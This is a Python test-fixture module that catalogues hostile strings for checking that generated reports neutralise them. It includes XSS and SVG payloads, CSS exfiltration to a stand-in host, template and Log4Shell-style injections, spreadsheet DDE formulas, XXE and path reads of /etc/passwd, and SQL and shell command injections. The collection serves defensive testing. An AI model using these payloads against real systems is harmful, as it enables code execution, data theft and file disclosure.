"""Texts that a hostile target, page or advisory may hold, as plain data for every format's test; one list for each kind of reader they aim at.

None may run, load, link, hide, reorder or break anything in any report. `PAYLOADS` has them all; `SPOOLABLE` leaves out lone surrogates, which no
UTF-8 file can hold: a snapshot's writer has replaced them before.
"""
# ruff: noqa: RUF001 - letters that look alike are the point

from __future__ import annotations

HTML = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "<img src=x onerror=alert`1`>", "<img/src='x'/onerror=alert(1)//", "`onmouseover=alert(1)`",
    '" autofocus onfocus=alert(1) x="', "' onclick='alert(1)", "<body onload=alert(1)>", "<svg/onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<button popovertarget=x>x</button><b popover id=x onbeforetoggle=alert(1)>", "<dialog open>x</dialog>",
    "<iframe src=//evil.test></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.test>", "<embed src=//evil.test>", "<frameset>",
    "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test'>", '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<link rel=stylesheet href=//evil.test/x.css>", "<link rel=preload as=script href=//evil.test/x.js>", "<link rel=dns-prefetch href=//evil.test>",
    "<form action=//evil.test><input type=submit>", "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<area href=javascript:alert(1)>", "<a ping=//evil.test href=#>x</a>",
    "<template><script>alert(1)</script></template>", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<plaintext>", "<xmp><b>", "<textarea>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</pre><iframe src=//evil.test>",
    "</table></main></body></html>", "</td></tr></tbody></table><h1>x", "</details></section>", "<!-- ", "--> <script>alert(1)</script>", "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?php phpinfo() ?>", "<?xml-stylesheet href='//evil.test'?>", "<!DOCTYPE html><script>alert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<table><td><form><table><input form=x>", "<img src=//evil.test/pixel.gif>",
    "<img srcset='//evil.test/x 1x'>", "<input name=attributes>", "<form id=x><output id=y>", "<a id=document><a id=document name=body>", "&lt;b&gt;", "&#60;script&#62;",
    "&amp;lt;script&amp;gt;", "&unknown; &#0; &#xD800; &#x110000;", "&", "&&&", "&nbsp", "<", ">", "<<>>", "< b >", '"', "'", "`", "\"'`<>&=/", '<b/a="', "</", "<!",
    "<custom-element onclick=alert(1)>", "<b style=position:fixed;inset:0;background:red>", "<b class=badge id=findings accesskey=x>", "onerror=alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B<script>\x1b(B", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
)  # fmt: skip
SVG = (
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><use href='//evil.test/x.svg#a'/></svg>",
    "<svg><image href=//evil.test/x.png></svg>", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><style>@import '//evil.test'</style></svg>", "</svg><script>alert(1)</script>", "</text></svg>",
    '" onload="alert(1)', "url(#x)", "url(//evil.test/x)", "<title>x</title><desc>", "<text>&xxe;</text>",
)  # fmt: skip
STYLE = (
    "</style>", "*{background:url(//evil.test)}", "@import url(//evil.test/x.css);", "expression(alert(1))", "-moz-binding:url(//evil.test)", "}body{display:none}",
    "color:red;}", "/*", "*/", "\\22 ", "content:attr(x)", "@font-face{src:url(//evil.test)}", "input[value^=a]{background:url(//evil.test/a)}",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)",
    "javascript&colon;alert(1)", "javascript://evil.test/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)", "file:///etc/passwd", "ftp://evil.test/", "ms-msdt:/id", "\\\\evil.test\\share", "//evil.test/x", "/\\evil.test", "http:evil.test", "https:/evil.test",
    "https://example.org@evil.test/", 'https://evil.test/"onmouseover=alert(1)', "https://evil.test/'><script>alert(1)</script>", "https://evil.test/<b>", "https://",
    "https://[::1", "https://xn--80ak6aa92e.test/", "https://еxample.test/", "https://evil.test/\u202efdp", "https://evil.test/\x00", "blob:https://evil.test/x",
    "about:blank", "mailto:x@evil.test?subject=x", "tel:+1", "intent://x#Intent;end", "view-source:https://evil.test", "http://169.254.169.254/latest/meta-data/",
    "https://evil.test/" + "a" * 3000, "HTTPS://EVIL.TEST", "https://evil.test:99999/", "https:\\\\evil.test",
)  # fmt: skip
TYPESETTING = (
    '#read("/etc/passwd")', '#import "@preview/x:0.1.0": *', '#include "x.typ"', '#eval("1+1")', "#sys.inputs", '#panic("x")', "#set page(width: 1pt)",
    "#show: x => []", "#let x = 1", "#while true {}", '#image("/etc/passwd")', '#link("javascript:alert(1)")[x]', "#pagebreak()", "#v(1e9pt)", "#for i in range(9999999) [x]",
    "$ x^2 $", "$", "*bold*", "_under_", "= Heading", "- list", "+ list", "/ term: x", "<label>", "@reference", "`raw`", '```typ #read("x")```', "// comment", "/* comment",
    "*/", "~", "\\", "\\u{1F600}", "[", "]", "#", "##", "#{", "#[", "\\input{/etc/passwd}", "\\write18{id}", "\\end{document}", "%comment", "\\def\\x{\\x}\\x",
    "(endstream endobj", ") Tj ET", "/JS (app.alert(1))", "%%EOF", "%!PS", "<< /OpenAction /JavaScript >>", "((((((((", "))))))))",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% endraw %}", "{% include 'x' %}", "{% for x in range(10**9) %}{% endfor %}", "{# comment",
    "#}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{0.__class__}", "{}", "{", "}", "{count}", "%s%s%s%n", "%(x)s", "$x ${x} $(id) `id`",
    "*{7*7}", "@(1+1)", "[[${7*7}]]", "{php}phpinfo();{/php}", "%{7*7}", "${jndi:ldap://evil.test/x}",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("//evil.test","x")', '=WEBSERVICE("//evil.test")', '=IMPORTXML("//evil.test","/")', "+1+1", "-1+1", "@SUM(1,1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\xa0=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", '"=1+1', ";=1+1", ",=1+1", "|=1+1", "a\n=1+1",
    'a","=1+1', "a;=1+1", "\u200b=1+1", "\u202e=1+1", "=-1", "==1", "-", "+", "=", "@", "{=1+1}", 'DDE("cmd";"/C calc";"x")', "=DDE()", "1e999", "0x10", "00012",
    "1-2", "TRUE", "#REF!", "#N/A", "12345678901234567890", "MARCH1", "2026-01-01", "<r>1</r>", '<r><t>x</t></is></c><c r="Z9"><f>1+1</f></c><c><is></r>',
    "</t></is></c></row></sheetData>", "_x003D_1+1", "_x005F_x003D_",
)  # fmt: skip
CONTROLS = (
    "\x00", "a\x00b", "".join(chr(n) for n in range(32)), "".join(chr(n) for n in range(127, 160)), "\x07", "\x08\x08\x08safe", "\x0b\x0c", "\r", "\r\n", "\n", "\n\n\n", "\t",
    "a\rb", "\x1a", "\x1f", "\x7f", "\x85", "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.test\x07x\x1b]8;;\x07", "\x9b31m", "\x1bP+q\x1b\\",
    "\x1b[201~", "\x1bc", "\x1b[?1049h", "\x0e\x0f", "_x0000_", "_x000D_", "&#0;", "\\0", "\\u0000",
)  # fmt: skip
UNICODE = (
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc", "\u2068abc", "\u200eabc\u200f", "\u061cabc", "\u202e" * 50, "a\u2067b\u202ec\u2066d", "\u200b\u200b",
    "pa\u200bss", "a\u200db", "a\u200cb", "\ufeffabc", "a\u2060b", "a\u00adb", "a\u034fb", "\u2028", "\u2029", "a\u2028b", "\u180e", "\ufff9a\ufffab\ufffb", "\ufffe", "\uffff",
    "\ufdd0", "\U0001fffe", "\U0010ffff", "\ue000", "\U000f0000", "\U000e0041\U000e0042", "\U000e0001", "аpple", "раypal", "Ａｄｍｉｎ", "ｊavascript", "𝐛𝐨𝐥𝐝", "ⅰⅱⅲ",
    "ß ẞ İ ı ſ", "é e\u0301", "a" + "\u0301" * 500, "Z" + "\u0489\u0488" * 60, "\u0301", "👩‍👩‍👧‍👦", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "🇩🇪🇩", "👍🏿", "☎\ufe0f☎\ufe0e",
    "1\ufe0f\u20e3", "שלום עולם", "مرحبا بالعالم", "abc שלום 123 مرحبا", "漢字かな交じり文", "한국어", "ไทยไม่มีช่องว่าง", "नमस्ते", "𠜎𠜱𠝹", "﷽" * 20, "㍿㍾", "\u3000", "\xa0", "\u2003", "　=1+1",
    "\u1680", "\u2800", "\u3164", "\uffa0", "\u115f\u1160", "\U0001d173", "\u0600\u06dd", "\u0b83\u0bbe\u0bcd", "ﬁﬂﬀ", "→←↔", "█▓▒░", "\u2400\u2401",
)  # fmt: skip
SURROGATES = (
    "\ud800",
    "\udfff",
    "a\ud83dz",
    "\udc80\udcff",
    "\ude00\ud83d",
    "\udcc3\udc28 invalid",
    "\udcff\udcfe\x00h\x00i",
    "<\ud800script>",
)
BREAKERS = (
    "]]>", "</r>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<!ENTITY a '&a;&a;'>", "xmlns:x='y'", '{"a":1}', '"}],"x":[{', '\\"',
    "\\", "\\\\", "\\u", "\\ud800", "NaN", "Infinity", "null", "true", "__proto__", "constructor", '{"__proto__":{"x":1}}', '{"s":"findings","r":{}}', '{"end":0,"sha256":"x"}',
    '"s":"scans"', "[[[[[[[[[[", "{" * 300, "PK\x03\x04", "PK\x05\x06" + "\x00" * 18, "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\con", "CON", "aux.txt", "a/b", "a:b",
    "a*b?c", ".", "..", "~", " ", "", "   ", "'; DROP TABLE report; --", '" OR 1=1', "a' UNION SELECT", "%00", "%0d%0aSet-Cookie: x=1", "\r\nContent-Type: text/html\r\n\r\n<b>", "$(id)", "`id`", "|id", "; id",
    "*)(uid=*", "!!python/object:os.system", "- a: &x [*x]", "---\n", "%YAML 1.2", "[x](javascript:alert(1))", "![x](//evil.test/x.png)", "<javascript:alert(1)>", "# heading", "| a | b |", "***", "~~x~~",
    "[[toc]]", "cpe:2.3:a:*:*:*:*:*:*:*:*:*:*", "CVE-2026-0000'; --", "pkg:npm/%40x/y@1?a=b#c", "urn:uuid:x", "-" * 80, "=" * 80,
)  # fmt: skip
LONG = (
    "A" * 1_000_000, "<b>" * 330_000, "\u202e" * 300_000, "漢" * 300_000, "a b " * 250_000, "line\n" * 200_000, "{{" * 500_000, "\\" * 1_000_000, "&" * 1_000_000,
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(HTML + SVG + STYLE + ADDRESSES + TYPESETTING + TEMPLATES + FORMULAS + CONTROLS + UNICODE + SURROGATES + BREAKERS + LONG)
)
SPOOLABLE: tuple[str, ...] = tuple(one for one in PAYLOADS if not any("\ud800" <= character <= "\udfff" for character in one))
